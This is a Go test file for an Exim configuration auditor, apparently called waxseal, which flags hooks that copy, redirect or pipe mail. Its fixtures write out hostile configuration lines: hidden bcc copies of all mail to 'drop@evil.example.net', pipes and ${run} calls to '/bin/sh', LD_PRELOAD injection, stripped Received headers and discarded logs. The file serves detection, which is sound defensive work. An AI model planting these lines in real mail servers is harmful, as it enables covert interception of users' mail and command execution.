package exim

import (
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
)

const passwd = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nexim:x:93:93::/var/spool/exim:/sbin/nologin\n"

// base has what a test's lines are put into, by section.
func base(sections map[string]string) string {
	return "primary_hostname = mail.example.test\ndomainlist local_domains = @ : example.test\nhostlist relay_from_hosts = 127.0.0.1\nacl_smtp_rcpt = rcpt\nacl_smtp_data = data\n" + sections["main"] +
		"\nbegin acl\nrcpt:\n" + sections["rcpt"] + "\n  require domains = +local_domains\n  accept\ndata:\n" + sections["data"] + "\n  accept\n" + sections["acl"] +
		"\nbegin routers\n" + sections["routers"] +
		"\nlocal:\n  driver = accept\n  check_local_user\n  transport = spool\nout:\n  driver = dnslookup\n  domains = ! +local_domains\n  transport = smtp\n" +
		"\nbegin transports\nspool:\n  driver = appendfile\n  file = /var/mail/$local_part_data\n" + sections["spool"] + "\nsmtp:\n  driver = smtp\n" + sections["smtp"] + "\n" + sections["transports"] +
		"\nbegin retry\n* * F,2h,15m\nbegin rewrite\n" + sections["rewrite"] + "\nbegin authenticators\n" + sections["auth"]
}

func read(t *testing.T, files map[waxseal.Path]snapshot.Object) mta.Result {
	t.Helper()
	return Read(snapshot.New(files), mask.New([]byte("test")), mta.Options{})
}

// want is what a hook must be; what is empty is not asked for.
type want struct {
	directive string
	kind      waxseal.HookKind
	target    string
	scope     string
	runsAs    string
	remote    bool
	inert     string // a part of the reason why it is inert
	explain   string // a part of the sentence
}

func (w want) fits(h waxseal.Hook) bool {
	return h.Directive == w.directive && (w.kind == "" || h.Kind == w.kind) && (w.target == "" || h.Target.Value == w.target) && (w.scope == "" || h.Scope == w.scope) &&
		(w.runsAs == "" || h.RunsAs == w.runsAs) && (!w.remote || h.Target.Remote) && strings.Contains(h.Explain, w.explain) &&
		h.Active == (w.inert == "") && strings.Contains(h.Modifiers["inactive"], w.inert)
}

func TestHooks(t *testing.T) {
	const evil = "drop@evil.example.net"
	for _, tc := range []struct {
		name     string
		sections map[string]string
		files    map[waxseal.Path]string
		want     want
	}{
		{"unseen redirect", map[string]string{"routers": "z:\n  driver = redirect\n  data = " + evil + "\n  unseen\n"}, nil,
			want{directive: "unseen", kind: waxseal.KindCopy, target: evil, scope: "all mail", remote: true, explain: "All mail is delivered and copied to drop@evil.example.net outside this host's domains (router z)."}},
		{"redirect of one user", map[string]string{"routers": "z:\n  driver = redirect\n  local_parts = alice\n  domains = example.test\n  data = " + evil + "\n"}, nil,
			want{directive: "redirect", kind: waxseal.KindRedirect, target: evil, scope: "recipient alice@example.test"}},
		{"a redirect in a condition", map[string]string{"routers": "z:\n  driver = redirect\n  data = ${if eq{$sender_address}{x@y}{" + evil + "}{}}\n"}, nil,
			want{directive: "redirect", target: evil, remote: true}},
		{"a router that is never used", map[string]string{"routers": "z:\n  driver = redirect\n  condition = false\n  data = " + evil + "\n"}, nil,
			want{directive: "redirect", target: evil, inert: "condition is never true"}},
		{"a router behind one that takes all", map[string]string{"routers": "all:\n  driver = accept\n  transport = spool\nz:\n  driver = redirect\n  data = " + evil + "\n"}, nil,
			want{directive: "redirect", target: evil, inert: "takes all mail"}},
		{"blackhole", map[string]string{"routers": "z:\n  driver = redirect\n  senders = security@partner.example\n  data = :blackhole:\n"}, nil,
			want{directive: "redirect", kind: waxseal.KindDiscard, scope: "sender security@partner.example"}},
		{"alias pipe without a transport", map[string]string{"routers": "a:\n  driver = redirect\n  data = ${lookup{$local_part}lsearch{/etc/aliases}}\n"}, map[waxseal.Path]string{"/etc/aliases": "svc: \"|/bin/sh -c id\"\n"},
			want{directive: "redirect", kind: waxseal.KindPipe, target: "/bin/sh -c id", scope: "recipient svc", inert: "pipe_transport is not set"}},
		{"alias pipe", map[string]string{"routers": "a:\n  driver = redirect\n  data = ${lookup{$local_part}lsearch{/etc/aliases}}\n  pipe_transport = p\n  user = nobody\n", "transports": "p:\n  driver = pipe\n"}, map[waxseal.Path]string{"/etc/aliases": "svc: |/bin/sh\n"},
			want{directive: "redirect", kind: waxseal.KindPipe, target: "/bin/sh", runsAs: "nobody"}},
		{"a list that is included", map[string]string{"routers": "a:\n  driver = redirect\n  data = :include:/etc/list\n"}, map[waxseal.Path]string{"/etc/list": "# c\n" + evil + "\n"},
			want{directive: "redirect", target: evil, remote: true}},
		{"a table for each domain", map[string]string{"routers": "a:\n  driver = redirect\n  data = ${lookup{$local_part}lsearch{/etc/valiases/$domain_data}}\n"}, map[waxseal.Path]string{"/etc/valiases/example.test": "info: " + evil + "\n"},
			want{directive: "redirect", target: evil, scope: "recipient info"}},
		{"forward file", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n"}, map[waxseal.Path]string{"/home/alice/.forward": "\\alice, " + evil + "\n"},
			want{directive: "forward", kind: waxseal.KindCopy, target: evil, scope: "recipient alice", explain: "Mail for alice is delivered and copied to"}},
		{"forward file with a suffix", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  local_part_suffix = +*\n  local_part_suffix_optional\n  file = $home/.forward$local_part_suffix\n"}, map[waxseal.Path]string{"/home/alice/.forward+x": evil + "\n"},
			want{directive: "forward", target: evil, scope: "recipient alice+x", inert: "$local_part_suffix"}},
		{"Exim filter", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n  allow_filter\n  pipe_transport = p\n", "transports": "p:\n  driver = pipe\n"}, map[waxseal.Path]string{"/home/alice/.forward": "# Exim filter\nunseen pipe \"/bin/sh -c id\"\n"},
			want{directive: "filter unseen pipe", kind: waxseal.KindPipe, target: "/bin/sh -c id", runsAs: "alice"}},
		{"Sieve", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n  allow_filter\n"}, map[waxseal.Path]string{"/home/alice/.forward": "# Sieve filter\nredirect \"" + evil + "\";\n"},
			want{directive: "sieve redirect", kind: waxseal.KindRedirect, target: evil}},
		{"Sieve with an extension of others", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n  allow_filter\n"}, map[waxseal.Path]string{"/home/alice/.forward": "# Sieve filter\nrequire \"variables\";\nredirect \"" + evil + "\";\n"},
			want{directive: "sieve redirect", inert: "does not understand"}},
		{"Sieve notices", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n  allow_filter\n  sieve_enotify_mailto_owner = alice@example.test\n"}, map[waxseal.Path]string{"/home/alice/.forward": "# Sieve filter\nrequire \"enotify\";\nnotify \"mailto:" + evil + "\";\n"},
			want{directive: "sieve notify", kind: waxseal.KindCopy, target: evil}},
		{"Sieve notices that the router does not send", map[string]string{"routers": "f:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n  allow_filter\n"}, map[waxseal.Path]string{"/home/alice/.forward": "# Sieve filter\nrequire \"enotify\";\nnotify \"mailto:" + evil + "\";\n"},
			want{directive: "sieve notify", inert: "does not understand"}},
		{"system filter", map[string]string{"main": "system_filter = /etc/exim/f\n"}, map[waxseal.Path]string{"/etc/exim/f": "unseen deliver " + evil + "\n"},
			want{directive: "filter unseen deliver", kind: waxseal.KindCopy, target: evil, scope: "all mail"}},
		{"system filter that throws away", map[string]string{"main": "system_filter = /etc/exim/f\n"}, map[waxseal.Path]string{"/etc/exim/f": "if $h_subject: contains audit then seen finish endif\n"},
			want{directive: "filter finish", kind: waxseal.KindDiscard}},
		{"system filter that keeps invoices", map[string]string{"main": "system_filter = /etc/exim/f\n"}, map[waxseal.Path]string{"/etc/exim/f": "if $h_subject: contains invoice then freeze endif\n"},
			want{directive: "filter freeze:HOLD", kind: waxseal.KindDiscard, scope: "header subject"}},
		{"smarthost", map[string]string{"routers": "s:\n  driver = manualroute\n  domains = ! +local_domains\n  route_list = * 203.0.113.25::2525 byname\n  transport = smtp\n"}, nil,
			want{directive: "manualroute", kind: waxseal.KindRelay, target: "[203.0.113.25]:2525", scope: "all mail that leaves", remote: true}},
		{"route data", map[string]string{"routers": "s:\n  driver = manualroute\n  route_data = ${lookup{$domain}lsearch{/etc/routes}}\n  transport = smtp\n"}, map[waxseal.Path]string{"/etc/routes": "partner.example: mx.evil.example.net\n"},
			want{directive: "manualroute", target: "mx.evil.example.net", scope: "recipient @partner.example"}},
		{"queryprogram", map[string]string{"routers": "q:\n  driver = queryprogram\n  command = /usr/local/bin/q $local_part_data\n  command_user = nobody\n"}, nil,
			want{directive: "queryprogram", kind: waxseal.KindPipe, runsAs: "nobody"}},
		{"tainted queryprogram", map[string]string{"routers": "q:\n  driver = queryprogram\n  command = /usr/local/bin/q $local_part\n  command_user = nobody\n"}, nil,
			want{directive: "queryprogram", inert: "$local_part"}},
		{"errors_to", map[string]string{"routers": "z:\n  driver = accept\n  unseen\n  transport = spool\n  errors_to = " + evil + "\n"}, nil, want{directive: "errors_to", target: evil, remote: true}},
		{"run in an ACL", map[string]string{"rcpt": "  warn set acl_m_x = ${if eq{a}{b}{${uc:${run{/bin/sh -c \"id\"}{$value}}}}}"}, nil,
			want{directive: "${run}", kind: waxseal.KindExpansionExec, target: `/bin/sh -c "id"`, runsAs: "exim"}},
		{"run in an ACL that nobody asks", map[string]string{"acl": "other:\n  accept condition = ${run{/bin/x}}\n"}, nil, want{directive: "${run}", inert: "no option names the ACL other"}},
		{"run in an ACL that another calls", map[string]string{"rcpt": "  accept acl = other", "acl": "other:\n  accept condition = ${run{/bin/x}}\n"}, nil, want{directive: "${run}", target: "/bin/x"}},
		{"run in a router", map[string]string{"routers": "r:\n  driver = accept\n  condition = ${run{/bin/x}}\n  transport = spool\n"}, nil, want{directive: "${run}", runsAs: "root"}},
		{"run in a filter", map[string]string{"main": "system_filter = /etc/exim/f\n"}, map[waxseal.Path]string{"/etc/exim/f": "if \"${run{/bin/x}}\" is y then finish endif\n"}, want{directive: "${run}", target: "/bin/x"}},
		{"perl", map[string]string{"main": "perl_startup = do '/etc/exim/x.pl'\n", "rcpt": "  warn set acl_m_x = ${perl{f}{a}}"}, nil, want{directive: "${perl}", target: "perl:f"}},
		{"perl without code", map[string]string{"rcpt": "  warn set acl_m_x = ${perl{f}{a}}"}, nil, want{directive: "${perl}", inert: "perl_startup"}},
		{"dlfunc", map[string]string{"smtp": "  interface = ${dlfunc{/tmp/x.so}{f}}\n"}, nil, want{directive: "${dlfunc}", kind: waxseal.KindModule, target: "/tmp/x.so"}},
		{"readsocket", map[string]string{"rcpt": "  deny condition = ${readsocket{inet:203.0.113.9:7777}{$sender_address}}"}, nil, want{directive: "${readsocket}", kind: waxseal.KindPolicy, target: "inet:203.0.113.9:7777", remote: true}},
		{"readsocket on this host", map[string]string{"rcpt": "  deny condition = ${readsocket{/run/x}{a}}"}, nil, want{directive: "${readsocket}", target: "unix:/run/x"}},
		{"passwords to a directory", map[string]string{"rcpt": "  deny condition = ${if ldapauth{user=x pass=y ldap://203.0.113.9/}}"}, nil, want{directive: "ldapauth", target: "ldapauth", remote: true}},
		{"passwords to the usual directory", map[string]string{"main": "ldap_default_servers = 203.0.113.9\n", "rcpt": "  deny condition = ${if ldapauth{user=x pass=y ldap:///}}"}, nil, want{directive: "ldapauth", remote: true}},
		{"passwords to this host", map[string]string{"rcpt": "  deny condition = ${if ldapauth{user=x pass=y ldap://localhost/}}"}, nil, want{directive: "ldapauth"}},
		{"discard", map[string]string{"rcpt": "  discard senders = security@partner.example"}, nil, want{directive: "discard", kind: waxseal.KindDiscard, scope: "sender security@partner.example"}},
		{"freeze", map[string]string{"data": "  warn control = freeze\n    condition = ${if match{$h_subject:}{x}}"}, nil, want{directive: "control = freeze:HOLD", kind: waxseal.KindDiscard, scope: "header subject"}},
		{"fakereject", map[string]string{"data": "  warn control = fakereject/no"}, nil, want{directive: "control", kind: waxseal.KindRewrite, target: "fakereject"}},
		{"add_header", map[string]string{"data": "  warn add_header = X-A: b"}, nil, want{directive: "add_header", kind: waxseal.KindRewrite, target: "X-A: b"}},
		{"remove_header", map[string]string{"data": "  warn remove_header = Received"}, nil, want{directive: "remove_header", explain: "so that nobody sees"}},
		{"udpsend", map[string]string{"rcpt": "  warn udpsend = 203.0.113.9 : 5140 : $sender_address"}, nil, want{directive: "udpsend", target: "inet:203.0.113.9:5140", remote: true}},
		{"udpsend by IPv6", map[string]string{"rcpt": "  warn udpsend = <; 2001:db8::9 ; 5140 ; $sender_address"}, nil, want{directive: "udpsend", target: "inet:[2001:db8::9]:5140", remote: true}},
		{"a second remove_header", map[string]string{"rcpt": "  warn remove_header = X-A\n       remove_header = Received"}, nil, want{directive: "remove_header", target: "Received"}},
		{"spam", map[string]string{"data": "  warn spam = nobody"}, nil, want{directive: "spamd_address", kind: waxseal.KindPolicy, target: "inet:127.0.0.1:783"}},
		{"scanner that is a command", map[string]string{"main": "av_scanner = cmdline:/usr/local/bin/s %s:found:(.+)\n", "data": "  deny malware = *"}, nil, want{directive: "av_scanner", kind: waxseal.KindPipe, target: "/usr/local/bin/s %s"}},
		{"scanner that nobody asks", map[string]string{"main": "av_scanner = clamd:/run/clamav/clamd.ctl\n"}, nil, want{directive: "av_scanner", target: "unix:/run/clamav/clamd.ctl", inert: "no ACL"}},
		{"rewrite of recipients", map[string]string{"rewrite": "alice@example.test " + evil + " T\n"}, nil, want{directive: "rewrite", kind: waxseal.KindRedirect, target: evil, scope: "recipient alice@example.test"}},
		{"rewrite of senders", map[string]string{"rewrite": "*@example.test $1@evil.example.net F\n"}, nil, want{directive: "rewrite", kind: waxseal.KindRewrite, remote: true}},
		{"rewrite by a table", map[string]string{"rewrite": "*@+local_domains \"${lookup{${local_part}}lsearch{/etc/email-addresses}{$value}fail}\" Ffrs\n"}, map[waxseal.Path]string{"/etc/email-addresses": "alice: alice@evil.example.net\n"},
			want{directive: "rewrite", target: "alice@evil.example.net", scope: "sender alice", remote: true}},
		{"transport filter", map[string]string{"spool": "  transport_filter = /usr/local/bin/tf\n"}, nil, want{directive: "transport_filter", kind: waxseal.KindPipe, target: "/usr/local/bin/tf"}},
		{"shadow transport", map[string]string{"spool": "  shadow_transport = sh\n", "transports": "sh:\n  driver = pipe\n  command = /usr/bin/tee /var/tmp/x\n  user = nobody\n"}, nil, want{directive: "shadow_transport", kind: waxseal.KindCopy, target: "/usr/bin/tee /var/tmp/x"}},
		{"the shadow itself", map[string]string{"spool": "  shadow_transport = sh\n", "transports": "sh:\n  driver = pipe\n  command = /usr/bin/tee /var/tmp/x\n  user = nobody\n"}, nil, want{directive: "pipe", runsAs: "nobody"}},
		{"transport that nobody uses", map[string]string{"transports": "sh:\n  driver = pipe\n  command = /bin/sh\n"}, nil, want{directive: "pipe", inert: "nothing hands mail to the transport sh"}},
		{"copy into a file", map[string]string{"routers": "c:\n  driver = accept\n  unseen\n  transport = f\n", "transports": "f:\n  driver = appendfile\n  file = /var/tmp/.bcc\n"}, nil, want{directive: "unseen", kind: waxseal.KindCopy, target: "/var/tmp/.bcc"}},
		{"a file with a tainted name", map[string]string{"routers": "c:\n  driver = accept\n  transport = f\n", "transports": "f:\n  driver = appendfile\n  file = /x/$local_part\n"}, nil, want{directive: "appendfile", inert: "$local_part"}},
		{"autoreply", map[string]string{"routers": "c:\n  driver = accept\n  unseen\n  transport = f\n", "transports": "f:\n  driver = autoreply\n  to = " + evil + "\n  return_message\n"}, nil, want{directive: "autoreply", kind: waxseal.KindCopy, target: evil, explain: "with the text of mail"}},
		{"hosts of a transport", map[string]string{"smtp": "  hosts = 203.0.113.9\n  hosts_override\n"}, nil, want{directive: "hosts", target: "[203.0.113.9]", remote: true}},
		{"Received removed", map[string]string{"smtp": "  headers_remove = Received:X-Originating-IP\n"}, nil, want{directive: "headers_remove", explain: "through whose hands"}},
		{"return path", map[string]string{"smtp": "  return_path = " + evil + "\n"}, nil, want{directive: "return_path", target: evil}},
		{"errors_copy", map[string]string{"main": "errors_copy = *@* " + evil + "\n"}, nil, want{directive: "errors_copy", kind: waxseal.KindCopy, target: evil, scope: "all bounces"}},
		{"local_scan", map[string]string{"main": "local_scan_path = /usr/local/lib/s.so\n"}, nil, want{directive: "local_scan_path", kind: waxseal.KindModule, target: "/usr/local/lib/s.so"}},
		{"the log thrown away", map[string]string{"main": "log_file_path = /dev/null%s\n"}, nil, want{directive: "log_file_path", kind: waxseal.KindLog, target: "/dev/null"}},
		{"environment", map[string]string{"main": "add_environment = LD_PRELOAD=/tmp/x.so\n"}, nil, want{directive: "add_environment", kind: waxseal.KindEnvironment}},
		{"trusted users", map[string]string{"main": "trusted_users = mail : mallory\n"}, nil, want{directive: "trusted_users", target: "mallory"}},
		{"Exim as root", map[string]string{"main": "exim_user = root\n"}, nil, want{directive: "exim_user", runsAs: "root"}},
		{"a command for ETRN", map[string]string{"main": "smtp_etrn_command = /bin/x\n"}, nil, want{directive: "smtp_etrn_command", kind: waxseal.KindPipe, target: "/bin/x"}},
		{"included file", map[string]string{"main": ".include_if_exists /var/tmp/.x\n"}, nil, want{directive: ".include_if_exists", target: "/var/tmp/.x"}},
		{"database elsewhere", map[string]string{"main": "hide mysql_servers = 203.0.113.9/mail/exim/secret\n", "rcpt": "  deny condition = ${lookup mysql{SELECT 1}{yes}}"}, nil, want{directive: "lookup", kind: waxseal.KindMap, target: "mysql", remote: true}},
		{"who hears passwords", map[string]string{"auth": "d:\n  driver = dovecot\n  public_name = PLAIN\n  server_socket = /run/dovecot/auth\n"}, nil, want{directive: "server_socket", target: "unix:/run/dovecot/auth"}},
		{"an ACL in its option", map[string]string{"main": "acl_smtp_mail = accept condition = ${run{/bin/x}}\n"}, nil, want{directive: "${run}", target: "/bin/x"}},
		{"an ACL in a file", map[string]string{"main": "acl_smtp_mail = /etc/exim/acl\n"}, map[waxseal.Path]string{"/etc/exim/acl": "accept\n  condition = ${run{/bin/x}}\n"}, want{directive: "${run}", target: "/bin/x"}},
		{"an open relay", map[string]string{"rcpt": "  accept hosts = *"}, nil, want{directive: "acl_smtp_rcpt", kind: waxseal.KindPolicy, remote: true}},
		{"a copy to a host", map[string]string{"routers": "z:\n  driver = manualroute\n  unseen\n  route_list = * copy.evil.example.net\n  transport = smtp\n"}, nil, want{directive: "unseen", kind: waxseal.KindCopy, target: "copy.evil.example.net", remote: true}},
		{"macros", map[string]string{"main": "WHO = drop\nWHERE = evil.example.net\n", "routers": "z:\n  driver = redirect\n  data = WHO@WHERE\n  unseen\n"}, nil, want{directive: "unseen", target: evil}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[waxseal.Path]snapshot.Object{"/etc/passwd": text(passwd), "/etc/exim/exim.conf": text(base(tc.sections))}
			for p, s := range tc.files {
				files[p] = text(s)
			}
			r := read(t, files)
			for _, h := range r.Hooks {
				if tc.want.fits(h) {
					return
				}
			}
			for _, h := range r.Hooks {
				t.Logf("%s %s %s -> %s (%s, as %s, active %v %v): %s", h.ID, h.Directive, h.Kind, h.Target.Value, h.Scope, h.RunsAs, h.Active, h.Modifiers, h.Explain)
			}
			t.Errorf("no hook is %+v; problems %v", tc.want, r.Problems)
		})
	}
}

// TestBase: an ordinary configuration has nothing wrong in it, and no more hooks
// than it should.
func TestBase(t *testing.T) {
	r := read(t, map[waxseal.Path]snapshot.Object{"/etc/passwd": text(passwd), "/etc/exim/exim.conf": text(base(nil))})
	if len(r.Problems) > 0 || len(r.Hooks) > 0 {
		t.Errorf("problems %v, hooks %v", r.Problems, r.Hooks)
	}
	if len(r.Stacks) != 1 || strings.Join(r.Stacks[0].Domains, " ") != "example.test mail.example.test" {
		t.Errorf("stacks %+v", r.Stacks)
	}
}
